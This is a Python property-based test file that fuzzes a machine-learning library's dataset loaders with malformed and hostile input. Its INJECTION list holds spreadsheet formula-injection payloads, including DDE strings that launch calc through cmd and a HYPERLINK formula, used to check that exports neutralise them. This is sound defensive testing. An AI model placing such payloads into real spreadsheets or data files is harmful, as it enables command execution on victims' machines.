"""Hostile data: every loader, fed random bytes, wrong encodings, huge fields, NULs, mixed types, CSV injection
strings and deep JSON nesting, ends in a clean result or one UserError line, never another exception; and
every record read is either kept or rejected (rows in = rows kept + rows rejected).

The library's loader functions are called directly (no CLI, no tokenizer), 500 generated examples each,
derandomized so CI sees the same cases every time.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tailorlm.errors import UserError
from tailorlm.recipe import DataConfig

SETTINGS = settings(max_examples=500, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
INJECTION = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
             "=HYPERLINK(\"http://x\")", "\t=1+1", "\r=1+1"]
ODD = ["", " ", "\x00", "a\x00b", "\ufeff", "\u200b", "\u2028", "\x85", "NA", "null", "nan", "1e309", "\"", "'",
       "\r\n", "\\", "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace")]

# a huge field (beyond csv's old 131,072-character limit) in about one cell in 150: they are slow to clean
huge = st.integers(min_value=131_000, max_value=140_000).map(lambda n: "é" * n)
text_cells = st.integers(0, 149).flatmap(
    lambda i: huge if i == 0 else st.text(max_size=30) if i % 2 else st.sampled_from(INJECTION + ODD)
)
scalars = st.one_of(
    text_cells, st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True, allow_infinity=True),
)
json_values = st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                            st.dictionaries(st.text(max_size=5), inner, max_size=3)),
                           max_leaves=8)


def deep(depth: int) -> str:
    """JSON text nested ``depth`` deep: Python's json raises RecursionError past its limit."""
    return "[" * depth + "]" * depth


# ------------------------------------------------------------------------------------------- harness


@contextmanager
def scratch(suffix: str) -> Iterator[Path]:
    with tempfile.TemporaryDirectory() as folder:
        yield Path(folder) / f"data{suffix}"


def survive(call: Callable[[], Any]) -> Any:
    """The loader's result, or None after a one-line UserError; any other exception fails the test."""
    try:
        return call()
    except UserError as exc:
        message = str(exc)
        assert message and "\n" not in message, message
        return None


def mutate(data: bytes, how: int) -> bytes:
    """Wrong encodings and damage: latin-1 re-encoding, UTF-16 without BOM, a NUL, truncation, a bad byte."""
    text = data.decode("utf-8", "replace")
    return [
        data,
        text.encode("latin-1", "replace"),
        text.encode("utf-16-le"),
        data[: len(data) // 2],
        data.replace(b",", b"\x00", 1),
        b"\xff\xfe" + data,
        data + b"\x80\x81",
    ][how % 7]


def payloads(build: st.SearchStrategy[tuple[bytes, int | None]]) -> st.SearchStrategy[tuple[bytes, int | None]]:
    """Structured files (with their record count), damaged copies of them (count unknown), or random bytes."""
    return st.one_of(
        build,
        st.tuples(build, st.integers(1, 6)).map(lambda t: (mutate(t[0][0], t[1]), None)),
        st.binary(max_size=400).map(lambda b: (b, None)),
    )


def check_accounting(expected: int | None, kept: int, rejected: int) -> None:
    if expected is not None:
        assert kept + rejected == expected, (kept, rejected, expected)


# ------------------------------------------------------------------------------------------- writers


def csv_bytes(rows: list[tuple[Any, Any]], delimiter: str, header: tuple[str, str]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)  # "\r\n" ends records, so a lone "\r" gets quoted
    writer.writerow(header)
    writer.writerows([("" if a is None else a, "" if b is None else b) for a, b in rows])
    return out.getvalue().encode("utf-8", "surrogatepass")


def jsonl_bytes(records: list[Any]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in records).encode()


two_columns = st.lists(st.tuples(scalars, scalars), max_size=6)


def delimited(delimiter: str, header: tuple[str, str]) -> st.SearchStrategy[tuple[bytes, int | None]]:
    return two_columns.map(lambda rows: (csv_bytes(rows, delimiter, header), len(rows)))


def jsonl_records(keys: tuple[str, str]) -> st.SearchStrategy[tuple[bytes, int | None]]:
    record = st.one_of(st.fixed_dictionaries({keys[0]: json_values, keys[1]: json_values}), json_values)
    deep_line = st.integers(10, 3000).map(lambda d: f'{{"{keys[0]}": {deep(d)}, "{keys[1]}": "a"}}')
    return st.lists(st.one_of(record.map(json.dumps), deep_line), min_size=1, max_size=6).map(
        lambda lines: ("\n".join(lines).encode(), len(lines)))


def json_array(keys: tuple[str, str]) -> st.SearchStrategy[tuple[bytes, int | None]]:
    record = st.one_of(st.fixed_dictionaries({keys[0]: json_values, keys[1]: json_values}), json_values)
    return st.one_of(
        st.lists(record, max_size=6).map(lambda items: (json.dumps(items).encode(), len(items) or None)),
        st.integers(10, 100_000).map(lambda d: (deep(d).encode(), None)),
    )


def parquet_bytes(texts: list[Any], labels: list[Any], kind: str) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    types = {"str": pa.string(), "int": pa.int64(), "float": pa.float64(), "bool": pa.bool_(),
             "list": pa.list_(pa.string())}
    table = pa.table({"text": pa.array(texts, type=types[kind]), "label": pa.array(labels, type=pa.string())})
    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


typed_columns = st.sampled_from(["str", "int", "float", "bool", "list"]).flatmap(lambda kind: st.tuples(
    st.lists({"str": st.one_of(st.none(), text_cells), "int": st.one_of(st.none(), st.integers(-2**63, 2**63 - 1)),
              "float": st.one_of(st.none(), st.floats()), "bool": st.one_of(st.none(), st.booleans()),
              "list": st.one_of(st.none(), st.lists(st.text(max_size=5), max_size=3))}[kind], min_size=1, max_size=6),
    st.just(kind),
)).flatmap(lambda t: st.tuples(st.just(t[0]), st.lists(st.one_of(st.none(), st.sampled_from(INJECTION + ODD)),
                                                        min_size=len(t[0]), max_size=len(t[0])), st.just(t[1])))
parquet_files = typed_columns.map(lambda t: (parquet_bytes(*t), len(t[0])))


# ------------------------------------------------------------------------------------------- classification


def labelled(path: Path, payload: bytes, require_label: bool = True) -> tuple[int, int] | None:
    from tailorlm.tasks.classification.data import load_labelled_file

    path.write_bytes(payload)
    split = "eval" if require_label else "predict"
    result = survive(lambda: load_labelled_file(path, DataConfig(train=str(path)), split, require_label))
    return None if result is None else (len(result[0]), len(result[1]))


@pytest.mark.parametrize(("suffix", "delimiter"), [(".csv", ","), (".tsv", "\t")])
def test_delimited_loaders(suffix: str, delimiter: str) -> None:
    @SETTINGS
    @given(payloads(delimited(delimiter, ("text", "label"))))
    def check(case: tuple[bytes, int | None]) -> None:
        with scratch(suffix) as path:
            counts = labelled(path, case[0])
            if counts:
                check_accounting(case[1], *counts)

    check()


@SETTINGS
@given(payloads(jsonl_records(("text", "label"))))
def test_jsonl_loader(case: tuple[bytes, int | None]) -> None:
    with scratch(".jsonl") as path:
        counts = labelled(path, case[0])
        if counts:
            check_accounting(case[1], *counts)


@SETTINGS
@given(payloads(json_array(("text", "label"))))
def test_json_loader(case: tuple[bytes, int | None]) -> None:
    with scratch(".json") as path:
        counts = labelled(path, case[0])
        if counts:
            check_accounting(case[1], *counts)


@SETTINGS
@given(payloads(parquet_files))
def test_parquet_loader(case: tuple[bytes, int | None]) -> None:
    with scratch(".parquet") as path:
        counts = labelled(path, case[0])
        if counts:
            check_accounting(case[1], *counts)


def txt_file(lines: list[str]) -> tuple[bytes, int]:
    body = "\n".join(line.replace("\n", " ") for line in lines) + "\n"
    return body.encode("utf-8", "surrogatepass"), len(lines)


@SETTINGS
@given(payloads(st.lists(text_cells, min_size=1, max_size=6).map(txt_file)))
def test_txt_loader(case: tuple[bytes, int | None]) -> None:
    with scratch(".txt") as path:
        counts = labelled(path, case[0], require_label=False)
        if counts:
            check_accounting(case[1], *counts)


# ------------------------------------------------------------------------------------------- other tasks


def squad_count(value: Any) -> int | None:
    """Questions in a SQuAD document: entries of ``qas`` lists inside ``paragraphs`` lists."""
    if not isinstance(value, dict) or not isinstance(value.get("data"), list):
        return None
    total = 0
    for article in value["data"]:
        paragraphs = article.get("paragraphs") if isinstance(article, dict) else None
        for paragraph in paragraphs if isinstance(paragraphs, list) else []:
            qas = paragraph.get("qas") if isinstance(paragraph, dict) else None
            total += len(qas) if isinstance(qas, list) else 0
    return total or None


answers = st.one_of(json_values, st.lists(st.fixed_dictionaries({"text": scalars, "answer_start": scalars}),
                                          max_size=2))
question = st.one_of(json_values, st.fixed_dictionaries(
    {"id": scalars, "question": scalars, "answers": answers, "is_impossible": scalars}))
paragraph = st.one_of(json_values, st.fixed_dictionaries({"context": scalars, "qas": st.one_of(
    json_values, st.lists(question, max_size=3))}))
squad_docs = st.fixed_dictionaries({"version": st.sampled_from(["v2.0", "1.1"]), "data": st.lists(
    st.one_of(json_values, st.fixed_dictionaries({"paragraphs": st.one_of(json_values, st.lists(paragraph,
                                                                                                max_size=3))})),
    max_size=3)}).map(lambda doc: (json.dumps(doc).encode(), squad_count(doc)))


@SETTINGS
@given(payloads(st.one_of(squad_docs, json_array(("question", "context")))))
def test_squad_json_loader(case: tuple[bytes, int | None]) -> None:
    from tailorlm.tasks.qa.data import read_qa_file

    with scratch(".json") as path:
        path.write_bytes(case[0])
        result = survive(lambda: read_qa_file(path, DataConfig(train=str(path), format="squad")))
        if result is not None:
            assert len(result.frame) + len(result.rejects) == result.rows_read
            if case[1] is not None and _is_squad(case[0]):
                check_accounting(case[1], len(result.frame), len(result.rejects))


def _is_squad(payload: bytes) -> bool:
    from tailorlm.tasks.qa.data import _is_squad as is_squad

    try:
        return is_squad(json.loads(payload))
    except ValueError:
        return False


@SETTINGS
@given(payloads(jsonl_records(("question", "context"))))
def test_qa_jsonl_loader(case: tuple[bytes, int | None]) -> None:
    from tailorlm.tasks.qa.data import read_qa_file

    with scratch(".jsonl") as path:
        path.write_bytes(case[0])
        result = survive(lambda: read_qa_file(path, DataConfig(train=str(path))))
        if result is not None:
            check_accounting(case[1], len(result.frame), len(result.rejects))


@SETTINGS
@given(payloads(delimited(",", ("question", "context"))))
def test_qa_csv_loader(case: tuple[bytes, int | None]) -> None:
    """Flat QA CSV; blank records are not rows here, so only the reader's own accounting is checked."""
    from tailorlm.tasks.qa.data import read_qa_file

    with scratch(".csv") as path:
        path.write_bytes(case[0])
        result = survive(lambda: read_qa_file(path, DataConfig(train=str(path))))
        if result is not None:
            assert len(result.frame) + len(result.rejects) == result.rows_read


def test_huge_csv_field_is_read_not_misreported(tmp_path: Path) -> None:
    """A 200,000-character text used to hit csv's field limit and be reported as an unclosed quote."""
    path = tmp_path / "huge.csv"
    path.write_bytes(csv_bytes([("x" * 200_000, "a"), ("ok text", "b")], ",", ("text", "label")))
    assert labelled(path, path.read_bytes()) == (2, 0)


word = st.one_of(
    st.text(st.characters(blacklist_categories=("Z", "Cc", "Cs")) | st.just("\x00"), min_size=1, max_size=8),
    st.sampled_from([s.replace(" ", "") for s in INJECTION if s.strip() and not any(c.isspace() for c in s)]),
).filter(lambda w: w != "-DOCSTART-" and not any(c.isspace() for c in w))
tag = st.one_of(st.sampled_from(["O", "B-ORG", "I-ORG", "B-PER", "I-PER", "I-", "B-", "X"]), word)
sentence = st.lists(st.tuples(word, st.lists(word, max_size=1), tag), min_size=1, max_size=5)


def conll_file(sentences: list[list[tuple[str, list[str], str]]]) -> tuple[bytes, int]:
    blocks = ["\n".join(" ".join([w, *middle, t]) for w, middle, t in s) for s in sentences]
    return ("\n\n".join(blocks) + "\n").encode("utf-8", "surrogatepass"), len(sentences)


@SETTINGS
@given(payloads(st.lists(sentence, min_size=1, max_size=5).map(conll_file)))
def test_conll_loader(case: tuple[bytes, int | None]) -> None:
    from tailorlm.tasks.token_classification.data import load_token_file

    with scratch(".conll") as path:
        path.write_bytes(case[0])
        result = survive(lambda: load_token_file(path, ["O", "B-ORG", "I-ORG", "B-PER", "I-PER"]))
        if result is not None:
            check_accounting(case[1], len(result[0]), len(result[1]))


@SETTINGS
@given(payloads(st.one_of(jsonl_records(("tokens", "tags")), st.lists(st.fixed_dictionaries({
    "tokens": st.one_of(json_values, st.lists(scalars, max_size=4)),
    "tags": st.one_of(json_values, st.lists(st.one_of(tag, scalars), max_size=4)),
}), min_size=1, max_size=5).map(lambda rs: (jsonl_bytes(rs), len(rs))))))
def test_token_jsonl_loader(case: tuple[bytes, int | None]) -> None:
    from tailorlm.tasks.token_classification.data import load_token_file

    with scratch(".jsonl") as path:
        path.write_bytes(case[0])
        result = survive(lambda: load_token_file(path, ["O", "B-ORG", "I-ORG"]))
        if result is not None:
            check_accounting(case[1], len(result[0]), len(result[1]))


messages = st.one_of(json_values, st.lists(st.one_of(json_values, st.fixed_dictionaries(
    {"role": st.one_of(st.sampled_from(["system", "user", "assistant"]), scalars), "content": scalars})),
    max_size=4))


@SETTINGS
@given(payloads(st.one_of(
    jsonl_records(("prompt", "response")),
    st.lists(st.fixed_dictionaries({"messages": messages}), min_size=1, max_size=5).map(
        lambda rs: (jsonl_bytes(rs), len(rs))),
    delimited(",", ("prompt", "response")).map(lambda t: (t[0], t[1])),
)))
def test_generation_loader(case: tuple[bytes, int | None]) -> None:
    from tailorlm.tasks.generation.data import load_generation_file

    suffix = ".csv" if case[0].startswith(b"prompt,response") else ".jsonl"
    with scratch(suffix) as path:
        path.write_bytes(case[0])
        result = survive(lambda: load_generation_file(path, DataConfig(train=str(path))))
        if result is not None:
            check_accounting(case[1], len(result[0]), len(result[1]))


@SETTINGS
@given(payloads(st.one_of(jsonl_records(("source", "target")), delimited("\t", ("source", "target")))))
def test_translation_loader(case: tuple[bytes, int | None]) -> None:
    from tailorlm.tasks.translation.data import load_pair_file

    suffix = ".tsv" if case[0].startswith(b"source\ttarget") else ".jsonl"
    with scratch(suffix) as path:
        path.write_bytes(case[0])
        result = survive(lambda: load_pair_file(path, DataConfig(train=str(path))))
        if result is not None:
            check_accounting(case[1], len(result[0]), len(result[1]))


# ------------------------------------------------------------------------------------------- outputs


def test_rejects_are_jsonl_so_injection_strings_stay_inert(tmp_path: Path) -> None:
    """Rejects are written as JSON Lines, never CSV: a cell like =cmd|... stays a JSON string."""
    from tailorlm.data import write_rejects

    out = tmp_path / "rejects.jsonl"
    records = [{"row": i, "reason": "too_short", "text": text} for i, text in enumerate(INJECTION)]
    write_rejects(out, records)
    assert [json.loads(line)["text"] for line in out.read_text().splitlines()] == INJECTION


def test_csv_safe_neutralises_formula_cells() -> None:
    """For CSV meant for spreadsheets: a leading = + - @ (or tab/CR) gets a quote, so it is shown, not run."""
    from tailorlm.safety import csv_safe

    assert [csv_safe(v) for v in INJECTION] == ["'" + v for v in INJECTION]
    assert csv_safe("plain text") == "plain text" and csv_safe("-") == "'-" and csv_safe(3) == 3
    assert csv_safe("-1.5") == "-1.5"  # a negative number stays a number


def test_review_csv_neutralises_formulas_and_reads_them_back(tmp_path: Path) -> None:
    """A data row that is a spreadsheet formula is exported quoted, and apply-review still finds its row."""
    from tailorlm.review import read_corrections, review_csv

    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
    rows = [{"id": "train.csv:2", "source": "train.csv", "row": 2, "text": formula, "label": "-neg",
             "predicted": "pos", "confidence": 0.9, "reason": "confident error"}]
    text = review_csv(rows)
    assert "'=HYPERLINK" in text and "'-neg" in text
    review = tmp_path / "review.csv"
    review.write_text(text.replace("confident error,,", "confident error,pos,"), encoding="utf-8")
    [correction] = read_corrections(review)
    assert correction.text == formula and correction.new_label == "pos" and correction.row == 2
